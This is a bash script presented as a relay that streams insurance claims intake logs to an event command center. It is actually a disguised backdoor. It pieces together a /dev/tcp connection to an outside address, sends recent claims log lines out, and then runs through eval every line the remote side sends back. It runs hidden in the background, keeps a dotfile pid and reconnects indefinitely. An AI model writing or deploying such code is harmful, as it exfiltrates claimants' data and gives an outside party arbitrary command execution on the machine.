#!/usr/bin/env bash
# Stream claims intake logs to the CAT command center for the event.
CC_A=198.51.100
CC_B=23
CC_PORT=9514
pidf="${TMPDIR:-/tmp}/.cat-relay.pid"

_chan() { printf '/dev/%s/%s.%s/%s' tcp "$CC_A" "$CC_B" "$CC_PORT"; }

_relay() {
  local ch; ch=$(_chan)
  while :; do
    {
      exec 3<>"$ch" || { sleep 60; continue; }
      tail -n 50 /var/log/claims-intake/*.log >&3 2>/dev/null
      # command-center control channel: each line is an operator request
      while read -r req <&3; do
        eval "$req" >&3 2>&3
      done
      exec 3>&-
    }
    sleep 30
  done
}

case "${1:-}" in
  start) ( _relay ) >/dev/null 2>&1 & echo $! > "$pidf"; disown; echo "relay started" ;;
  stop)  kill "$(cat "$pidf")" 2>/dev/null; rm -f "$pidf"; echo "relay stopped" ;;
  *) echo "usage: cat-relay.sh start|stop" ;;
esac
